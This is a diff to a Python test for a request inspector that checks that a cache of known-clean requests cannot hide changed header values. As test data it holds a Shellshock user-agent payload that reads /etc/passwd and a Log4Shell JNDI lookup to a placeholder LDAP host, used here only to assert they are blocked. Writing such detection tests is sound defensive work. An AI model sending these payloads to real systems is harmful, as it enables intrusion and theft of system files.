@@ -162,8 +162,16 @@ def test_known_clean_requests_do_not_hide_a_changed_value() -> None:
     inspector = Inspector()
     ua = (b"user-agent", b"Mozilla/5.0")
     clean = RequestParts("GET", "/items", b"page=2", (ua, (b"cookie", b"sid=abc")))
+
+    def key(parts: RequestParts) -> tuple[object, ...] | None:
+        return inspector.request_key(parts.path, parts.query_string, parts.headers)
+
     for _ in range(3):
         assert not inspector.inspect(clean).findings
+    clean_key = key(clean)
+    assert clean_key is not None and not inspector.known_clean(clean_key)
+    inspector.remember_clean(clean_key)  # what the middleware does with a clean verdict
+    assert inspector.known_clean(clean_key)
     sid = (b"cookie", b"sid=abc")
     shellshock = (b"user-agent", b"() { :; }; /bin/cat /etc/passwd")
     jndi = (b"x-api-version", b"${jndi:ldap://x/a}")
@@ -175,8 +183,14 @@ def test_known_clean_requests_do_not_hide_a_changed_value() -> None:
         RequestParts("GET", "/items", b"page=2", (ua, sid, jndi)),
     ]
     for parts in attacks:
+        attack_key = key(parts)
+        assert attack_key is None or not inspector.known_clean(attack_key), parts
         assert inspector.inspect(parts).blocked, parts
         assert inspector.inspect(parts).blocked, parts  # and again: findings are never kept
     # Headers outside the inspected list do not change the verdict (nor the memory).
     other = RequestParts("GET", "/items", b"page=2", (ua, sid, (b"accept", b"*/*")))
     assert not inspector.inspect(other).findings
+    assert key(other) == clean_key
+    # A request that announces a body has no key: its body decides its verdict.
+    with_body = RequestParts("GET", "/items", b"page=2", (ua, (b"content-length", b"12")))
+    assert key(with_body) is None
